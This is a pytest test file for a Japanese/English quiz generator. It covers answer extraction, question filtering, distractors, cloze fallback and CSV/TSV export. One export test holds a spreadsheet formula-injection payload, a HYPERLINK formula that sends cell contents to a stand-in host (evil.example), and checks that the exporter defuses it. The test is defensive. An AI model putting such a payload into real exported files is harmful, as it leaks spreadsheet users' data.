"""Quiz generation: answer candidates, QG input, question filtering, distractors, export round trip."""

from __future__ import annotations

import csv
import io
import logging
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from generation_corpus import write_documents
from tiny_index import build

from search.errors import ModelUnavailableError, SearchError
from search.generation.candidates import Candidate, extract_candidates
from search.generation.cloze import cloze_text, key_sentence, numeric_variants
from search.generation.export import COLUMNS, read_table, write_table
from search.generation.prompts import sonoisa_normalize, sonoisa_qg_input
from search.generation.quiz import (
    QuizGenerator,
    QuizQuestion,
    _Item,
    excluded_distractor,
    nearest_distractors,
    qg_input,
    question_filter,
    select_candidates,
    shuffled_options,
    unit,
)
from search.generation.settings import GenerationSettings
from search.models.encoder import Encoder
from search.models.seq2seq import GenerationOptions, Seq2SeqModel
from search.retrieval.results import Hit
from search.retrieval.searcher import Searcher
from search.storage.store import Store

FAST_QG = GenerationOptions(max_new_tokens=4, num_beams=2, max_time=60.0)
MISSING = "/nonexistent/qg-model"


def kinds(text: str) -> dict[str, str]:
    found = extract_candidates(text)
    for c in found:
        assert text[c.start : c.end] == c.text  # verbatim, exact offsets
    return {c.text: c.type for c in found}


# -- answer candidates ---------------------------------------------------------------------------------


def test_japanese_candidates_numbers_with_counters_dates_and_names() -> None:
    found = kinds("山田太郎は2025年4月1日に東京本社で10日間の研修を受け、3か月後に5万円の「特別手当」を受け取った。")
    assert found["山田太郎"] == "name"
    assert found["2025年4月1日"] == "date"
    assert found["10日間"] == "number" and found["3か月"] == "number" and found["5万円"] == "number"
    assert found["特別手当"] == "quote"
    assert found["東京本社"] == "noun"


def test_japanese_candidates_on_rules_text() -> None:
    found = kinds(
        "第20条 入社日から6か月間勤務した従業員には、10日の年次有給休暇を付与する。年末年始（12月29日～1月3日）"
    )
    assert found["第20条"] == "number" and found["6か月間"] == "number" and found["10日"] == "number"
    assert found["12月29日～1月3日"] == "date", "a range is one answer"
    assert found["年次有給休暇"] == "noun" and found["従業員"] == "noun"
    assert "付与" not in found and "勤務" not in found, "verbal nouns alone are poor answers"


def test_japanese_dates_in_kanji_and_month_only() -> None:
    found = kinds("新入社員研修は四月一日から二週間行われます。健康診断は毎年十月に実施し、令和7年4月から変わります。")
    assert found["四月一日"] == "date" and found["二週間"] == "number"
    assert found["十月"] == "date" and found["令和7年4月"] == "date"
    assert "一日" not in found


def test_english_candidates() -> None:
    found = kinds(
        'Since April 1, 2025, Taro Yamada of the Osaka Office approves "Remote Work" for 4 days a month, $50.'
    )
    assert found["April 1, 2025"] == "date" and found["4 days"] == "number" and found["$50"] == "number"
    assert found["Taro Yamada"] == "name" and found["Osaka Office"] == "name" and found["Remote Work"] == "quote"
    assert "Since" not in found


# -- question generation input and filtering -------------------------------------------------------------


def test_qg_input_uses_the_model_card_template_and_its_normalization() -> None:
    assert sonoisa_qg_input("10日", "有給休暇は10日です。") == "answer: 10日 context: 有給休暇は10日です。"
    # neologd rules then lower-case: full-width ASCII folds, half-width katakana widens, spaces between
    # Japanese characters go, Latin is lower-cased.
    assert sonoisa_normalize("ＶＰＮ　に 接続 ｶﾞｲﾄﾞ") == "vpnに接続ガイド"
    assert sonoisa_qg_input("ＩＴ部", "ＩＴ部 へ 連絡") == "answer: it部 context: it部へ連絡"


def test_qg_context_is_cut_around_the_answer_sentence() -> None:
    sentences = ["前置きの文です。" * 5, "有給休暇は十日付与されます。", "後ろの文です。" * 5]
    text = "".join(sentences)
    start = text.index("十日")
    hit = Hit(1, 0.0, 1, "a.txt", "a", "txt", "", text, 0, len(text), 0)
    item = _Item(hit, Candidate("十日", "number", start, start + 2))
    built = qg_input(item, lambda t: len(t) <= 80)
    assert built is not None and built.startswith("answer: 十日 context: ") and "有給休暇は十日付与されます。" in built
    assert len(built) <= 80
    assert qg_input(item, lambda t: len(t) <= 20) is None, "not even the answer's sentence fits"


def test_question_filter_drops_empty_self_answering_and_duplicate_questions() -> None:
    seen: set[str] = set()
    assert question_filter("", "十日", seen) == "empty"
    assert question_filter(" 。", "十日", seen) == "empty"
    assert question_filter("有給休暇は十日ですか？", "十日", seen) == "contains_answer"
    assert question_filter("有給休暇は何日付与されますか？", "十日", seen) is None
    assert question_filter("有給休暇は何日付与されますか", "十日", seen) == "duplicate"
    assert question_filter("What is ten DAYS?", "ten days", set()) == "contains_answer"  # normalized


# -- distractors -----------------------------------------------------------------------------------------


def quiz_question(answer: str, answer_type: str, passage_id: int = 1) -> QuizQuestion:
    return QuizQuestion("q", answer, answer_type, [], [], passage_id, "a.txt", "a", 0, 10, 0, len(answer))


def test_distractors_are_same_type_from_other_passages_nearest_first() -> None:
    pool = [
        (1, Candidate("二十日", "number", 0, 3)),  # same passage as the answer
        (2, Candidate("四月一日", "date", 0, 4)),  # other type
        (2, Candidate("十日", "number", 0, 2)),  # equal to the answer
        (3, Candidate("三十日間", "number", 0, 4)),  # contains the answer? no: 三十日 contains 十日
        (3, Candidate("五日", "number", 0, 2)),
        (4, Candidate("三日", "number", 0, 2)),
        (5, Candidate("七日", "number", 0, 2)),
        (6, Candidate("二時間", "number", 0, 3)),
        (7, Candidate("八日", "number", 0, 2)),
    ]
    rng = np.random.default_rng(0)
    vectors = {c.text: rng.normal(size=8) for _, c in pool}
    vectors["十日"] = vectors["八日"] + 0.01  # 八日 is the nearest
    question = quiz_question("十日", "number")
    chosen = nearest_distractors(question, pool, vectors)
    assert len(chosen) == 3 and chosen[0] == "八日"
    assert set(chosen) <= {"五日", "三日", "七日", "八日"}, "same unit (日) first; never 二十日/十日/三十日間/dates"
    assert excluded_distractor("十日", "三十日間") and excluded_distractor("有給休暇", "休暇")
    assert not excluded_distractor("十日", "五日")


def test_unit_and_option_order() -> None:
    assert unit("10日") == unit("三日") == "日" and unit("第20条") == "条" and unit("3か月") == "か月"
    options = shuffled_options("有給休暇は何日？", "十日", ["五日", "三日", "七日"])
    assert sorted(options) == sorted(["十日", "五日", "三日", "七日"])
    assert options == shuffled_options("有給休暇は何日？", "十日", ["五日", "三日", "七日"]), "deterministic"


# -- end to end with a tiny random QG model ----------------------------------------------------------------


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory, tiny_encoder: Encoder) -> Path:
    root = tmp_path_factory.mktemp("quiz")
    build(write_documents(root / "docs"), root / "index", tiny_encoder)
    return root / "index"


@pytest.fixture(scope="module")
def searcher(index: Path, tiny_encoder: Encoder) -> Searcher:
    return Searcher(index, encoder=tiny_encoder)


def generation_settings(qg: Path | str, **overrides: Any) -> GenerationSettings:
    values: dict[str, Any] = {"qg_model": str(qg), "qa_model_ja": str(qg), "qa_model_en": str(qg), "device": "cpu"}
    values.update({"precision": "fp32", "max_new_tokens": 4, "num_beams": 2, **overrides})
    return GenerationSettings(**values)


def assert_question_points_at_its_source(index: Path, q: dict[str, Any]) -> None:
    store = Store(index)
    text = store.conn.execute("SELECT text FROM documents WHERE path = ?", (q["path"],)).fetchone()[0]
    assert text[q["answer_start"] : q["answer_end"]] == q["answer"]
    row = store.passage_rows([q["passage_id"]])[q["passage_id"]]
    assert (row["char_start"], row["char_end"]) == (q["start"], q["end"])
    assert q["start"] <= q["answer_start"] < q["answer_end"] <= q["end"]


def test_quiz_with_a_real_tiny_model_accounts_for_every_candidate(
    searcher: Searcher, index: Path, tiny_seq2seq_dir: Path
) -> None:
    generator = QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir), qg_options=FAST_QG)
    result = generator.from_query("有給休暇", n=3, multiple_choice=False).as_dict()
    assert result["source"] == {"query": "有給休暇"} and result["model"] == str(tiny_seq2seq_dir)
    assert len(result["questions"]) <= 3 and set(result["skipped"]) <= {"empty", "contains_answer", "duplicate"}
    for q in result["questions"]:
        assert q["question"] and q["options"] == [] and q["verified"] is None
        assert_question_points_at_its_source(index, q)


def fake_questions(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Distinct, answer-free questions in place of the random model's noise (the decoding step only)."""
    inputs: list[str] = []

    def generate(self: Seq2SeqModel, batch: list[str], max_input_tokens: int, options: GenerationOptions) -> list[str]:
        start = len(inputs)
        inputs.extend(batch)
        return [f"質問{n}はどれですか" for n in range(start, start + len(batch))]

    monkeypatch.setattr(Seq2SeqModel, "generate", generate)
    return inputs


def test_multiple_choice_quiz_from_a_document(
    searcher: Searcher, index: Path, tiny_seq2seq_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inputs = fake_questions(monkeypatch)
    generator = QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir), qg_options=FAST_QG)
    result = generator.from_document("人事/就業規則.txt", n=3).as_dict()
    assert result["source"] == {"document": "人事/就業規則.txt"} and result["multiple_choice"]
    assert all(i.startswith("answer: ") and " context: " in i for i in inputs)
    assert 1 <= len(result["questions"]) <= 3
    for q in result["questions"]:
        assert q["path"] == "人事/就業規則.txt"
        assert_question_points_at_its_source(index, q)
        assert len(q["distractors"]) == 3 and sorted(q["options"]) == sorted([q["answer"], *q["distractors"]])
        assert all(not excluded_distractor(q["answer"], d) for d in q["distractors"])
        same_type = {c.text for c in extract_candidates_in_index(index) if c.type == q["answer_type"]}
        assert set(q["distractors"]) <= same_type


def extract_candidates_in_index(index: Path) -> list[Candidate]:
    store = Store(index)
    return [c for (text,) in store.conn.execute("SELECT text FROM passages") for c in extract_candidates(text)]


def test_verification_keeps_only_round_trips(
    searcher: Searcher, tiny_seq2seq_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def generate(self: Seq2SeqModel, batch: list[str], max_input_tokens: int, options: GenerationOptions) -> list[str]:
        if batch[0].startswith("answer: "):  # question generation: ask about the answer
            return [
                f"{t.split(' context: ')[0].removeprefix('answer: ')}について聞く質問{n}" for n, t in enumerate(batch)
            ]
        return ["十日" for _ in batch]  # the QA model always answers 十日

    monkeypatch.setattr(Seq2SeqModel, "generate", generate)
    generator = QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir), qg_options=FAST_QG)
    result = generator.from_document("人事/就業規則.txt", n=5, multiple_choice=False, verify=True)
    # Every generated question names its own answer: all are dropped before verification.
    assert result.questions == [] and result.skipped.get("contains_answer", 0) > 0

    asked: list[str] = []

    def generate_clean(
        self: Seq2SeqModel, batch: list[str], max_input_tokens: int, options: GenerationOptions
    ) -> list[str]:
        if batch[0].startswith("answer: "):
            asked.extend(batch)
            return [f"質問{len(asked) - len(batch) + n}は何ですか" for n in range(len(batch))]
        return ["十日" for _ in batch]

    monkeypatch.setattr(Seq2SeqModel, "generate", generate_clean)
    result = generator.from_document("人事/就業規則.txt", n=5, multiple_choice=False, verify=True)
    assert [q.answer for q in result.questions] == ["十日"] and result.questions[0].verified is True
    assert result.skipped["not_verified"] >= 1


def test_verification_without_its_configured_model_leaves_questions_unchecked_and_says_so(
    searcher: Searcher, tiny_seq2seq_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake_questions(monkeypatch)
    settings = generation_settings(tiny_seq2seq_dir, qa_model_ja=MISSING, qa_model_en=MISSING)
    result = QuizGenerator(searcher, settings, qg_options=FAST_QG).from_document(
        "人事/就業規則.txt", n=2, multiple_choice=False, verify=True
    )
    assert result.mode == "generated" and result.questions and all(q.verified is None for q in result.questions)
    assert (
        result.fallback_reason
        == f"確認用の回答生成モデル「{MISSING}」がこのマシンにないため、問題の検証は行っていません。"
    )


def test_missing_qg_model_and_unknown_document_are_clear_errors(searcher: Searcher, tiny_seq2seq_dir: Path) -> None:
    # A model named explicitly (a command-line flag), or generation asked for by name, is not replaced.
    explicit = QuizGenerator(searcher, generation_settings(MISSING), explicit_models=frozenset({MISSING}))
    with pytest.raises(ModelUnavailableError, match="setting `qg_model`") as caught:
        explicit.from_query("有給休暇", n=2)
    assert caught.value.model == MISSING
    with pytest.raises(ModelUnavailableError, match="setting `qg_model`"):
        QuizGenerator(searcher, generation_settings(MISSING)).from_query("有給休暇", n=2, mode="generated")
    with pytest.raises(SearchError, match="quiz mode must be one of auto, generated, cloze"):
        QuizGenerator(searcher, generation_settings(MISSING)).from_query("有給休暇", n=2, mode="fancy")
    with pytest.raises(SearchError, match=r"No document 'nope\.txt'"):
        QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir)).from_document("nope.txt")
    with pytest.raises(SearchError, match="n must be"):
        QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir)).from_query("有給休暇", n=0)


# -- export ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_round_trip(fmt: str) -> None:
    questions = [
        {
            **quiz_question("十日", "number").as_dict(),
            "question": '有給休暇は、何日\t"付与"されますか？\n(第20条)',
            "options": ["五日", "十日", "三日, 四日", '"七日"'],
            "distractors": ["五日", "三日, 四日", '"七日"'],
            "path": "人事/就業規則.txt",
            "verified": True,
        },
        {**quiz_question("VPN", "name", passage_id=7).as_dict(), "verified": None},
    ]
    table = write_table(questions, fmt)
    assert table.removeprefix("\ufeff").splitlines()[0].split("," if fmt == "csv" else "\t") == list(COLUMNS)
    back = read_table(table, fmt)
    for original, restored in zip(questions, back, strict=True):
        for key in ("question", "answer", "answer_type", "options", "path", "title", "passage_id", "start", "end",
                    "answer_start", "answer_end", "verified"):  # fmt: skip
            assert restored[key] == original[key], key
        assert sorted(restored["distractors"]) == sorted(original["distractors"])
    with pytest.raises(SearchError, match="csv or tsv"):
        write_table(questions, "xlsx")
    with pytest.raises(SearchError, match="missing columns"):
        read_table("question,answer\nq,a\n", "csv")


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_makes_formula_cells_inert_and_reads_them_back(fmt: str) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+2", "-3+4", "@SUM(A1:A9)", "'=already", "'plain"]
    questions = [
        {
            **quiz_question("十日", "number").as_dict(),
            "question": hostile[0],
            "answer": hostile[1],
            "options": hostile[1:5],
            "title": hostile[5],
        }
    ]
    table = write_table(questions, fmt)
    text = io.StringIO(table.removeprefix("\ufeff"), newline="")
    cells = next(csv.DictReader(text, delimiter="," if fmt == "csv" else "\t"))
    # What a spreadsheet sees: every cell that would have been a formula starts with an apostrophe.
    assert cells["question"] == "'" + hostile[0] and cells["answer"] == "'+1+2"
    assert [cells[f"option_{i}"] for i in range(1, 5)] == ["'+1+2", "'-3+4", "'@SUM(A1:A9)", "''=already"]
    assert cells["title"] == "'plain" and cells["passage_id"] == str(questions[0]["passage_id"])
    back = read_table(table, fmt)[0]
    assert (back["question"], back["answer"], back["options"], back["title"]) == (
        hostile[0],
        hostile[1],
        hostile[1:5],
        hostile[5],
    )


def test_import_tolerates_extra_cells_and_names_the_line_of_a_bad_one() -> None:
    good = quiz_question("十日", "number").as_dict()
    table = write_table([good], "csv")
    header, row = table.splitlines()
    # Cells a spreadsheet user added past the known columns are ignored.
    assert read_table(f"{header}\n{row},メモ,\n", "csv") == read_table(table, "csv")
    edited = write_table([good, {**good, "passage_id": "七"}], "csv")
    with pytest.raises(SearchError, match=r"line 3: .*must be whole numbers"):
        read_table(edited, "csv")


# -- whole answer spans, cloze questions, fallback ---------------------------------------------------------


def test_numbers_dates_and_money_are_never_split() -> None:
    found = kinds(
        "会議費は1人5,000円以下とし、2025年4月1日から6か月ごとに見直す。交際費の上限は15,000円、仮払いは5万円以上。"
    )
    assert found["1人5,000円以下"] == "number" and found["15,000円"] == "number" and found["5万円以上"] == "number"
    assert found["2025年4月1日"] == "date" and found["6か月"] == "number"
    assert not any(t in {"5", "000円", "000", "1人", "4月1日", "2025年"} for t in found), found
    times = kinds("コアタイムは午前10時～午後3時、窓口は9:00～17:30です。")
    assert times["午前10時～午後3時"] == "time" and times["9:00～17:30"] == "time"


def test_number_distractors_keep_the_answers_unit_and_are_varied_when_the_index_has_none() -> None:
    pool = [(2, Candidate("4階", "number", 0, 2)), (3, Candidate("3回", "number", 0, 2))]
    vectors = {"1人5,000円以下": np.ones(4), "4階": np.ones(4), "3回": np.ones(4)}
    chosen = nearest_distractors(quiz_question("1人5,000円以下", "number"), pool, vectors)
    assert len(chosen) == 3 and all(c.startswith("1人") and c.endswith(",000円以下") for c in chosen), chosen
    assert "4階" not in chosen and "3回" not in chosen, "another unit is never an option"
    assert numeric_variants("4月1日", "date") and all(int(v[2:-1]) <= 28 for v in numeric_variants("4月1日", "date"))
    assert "０" not in "".join(numeric_variants("10日", "number")) and "１０日" not in numeric_variants(
        "１０日", "number"
    )


def sample_hit(text: str, heading: str = "", passage_id: int = 1, title: str = "就業規則") -> Hit:
    return Hit(passage_id, 0.0, 1, "人事/就業規則.txt", title, "txt", heading, text, 0, len(text), 0)


def test_no_question_about_the_query_or_boilerplate() -> None:
    preamble = sample_hit(
        "制定：2015年4月1日　最終改定：2024年4月1日\n本書は就業規則のうち、問い合わせが多い条文を抜粋したものです。"
    )
    rule = sample_hit("年次有給休暇は、入社から6か月を経過した日に10日付与する。", "第20条（年次有給休暇）", 2)
    answers = [i.candidate.text for i in select_candidates([preamble, rule], 20, query="年次有給休暇", cloze=True)]
    assert "2015年4月1日" not in answers and "2024年4月1日" not in answers, "enactment dates are not quiz facts"
    assert "本書" not in answers and "年次有給休暇" not in answers and "有給休暇" not in answers
    assert answers[:2] == ["6か月", "10日"], answers


def test_questions_spread_across_sections() -> None:
    hits = [
        sample_hit("所定労働時間は1日8時間、1週40時間とする。始業時刻は午前9時とする。", "第10条（所定労働時間）", 1),
        sample_hit("時間外労働は月45時間、年360時間を上限とする。", "第10条（所定労働時間）", 2),
        sample_hit("休憩時間は正午から午後1時までの60分とする。", "第11条（休憩）", 3),
    ]
    items = select_candidates(hits, 2, cloze=True)
    assert {i.hit.heading for i in items} == {"第10条（所定労働時間）", "第11条（休憩）"}


def test_no_cloze_from_a_sentence_cut_by_the_passage_start_nor_from_a_list_items_first_word() -> None:
    cut = sample_hit("xample）を通じて手配する。航空券は原則として旅行代理店で手配する。")
    assert "xample" not in [c.text for c in extract_candidates(cut.text) if key_sentence(cut.text, "", c)]
    assert "Follow" not in kinds("- Follow the Information Security Policy at all times.\n- Use only your laptop.")


def test_cloze_question_blanks_the_answer_and_names_its_section() -> None:
    hit = sample_hit("休憩時間は正午から午後1時までの60分とする。", "就業規則 > 第11条（休憩）")
    candidate = next(c for c in extract_candidates(hit.text) if c.text == "60分")
    span = key_sentence(hit.text, hit.heading, candidate)
    assert span is not None
    assert cloze_text(hit.text, span, candidate, hit.heading) == (
        "空欄に入る語句は何ですか。【第11条（休憩）】休憩時間は正午から午後1時までの＿＿＿＿とする。"
    )
    heading = sample_hit("第11条（休憩）", "第11条（休憩）")
    assert key_sentence(heading.text, heading.heading, Candidate("11条", "number", 1, 4)) is None


def test_without_the_qg_model_the_quiz_is_cloze_and_says_so(
    searcher: Searcher, index: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="docsearch.generation"):
        result = QuizGenerator(searcher, generation_settings(MISSING)).from_document("人事/就業規則.txt", n=3)
    data = result.as_dict()
    assert data["mode"] == "cloze" and data["language"] == "ja" and "no such directory" in caplog.text
    assert (
        data["fallback_reason"]
        == f"問題生成モデル「{MISSING}」がこのマシンにないため、文書の文から穴埋め問題を作りました。"
    )
    assert data["model"] == str(searcher.manifest["model"]), "the model named is the one that was used"
    assert data["questions"]
    for q in data["questions"]:
        assert q["mode"] == "cloze" and "＿＿＿＿" in q["question"] and q["answer"] not in q["question"]
        assert_question_points_at_its_source(index, q)
        assert len(q["distractors"]) == 3 and q["answer"] in q["options"]


def test_cloze_is_selectable_even_with_a_generator(searcher: Searcher, tiny_seq2seq_dir: Path) -> None:
    generator = QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir))
    result = generator.from_query("休暇", n=2, multiple_choice=False, mode="cloze")
    assert result.mode == "cloze" and result.fallback_reason is None and result.questions
    assert not generator.pool.is_loaded(str(tiny_seq2seq_dir)), "cloze questions load no model"
    generated = QuizGenerator(searcher, generation_settings(tiny_seq2seq_dir), qg_options=FAST_QG)
    made = generated.from_query("休暇", n=2, multiple_choice=False)
    assert made.mode == "generated" and all(q.mode == "generated" for q in made.questions)
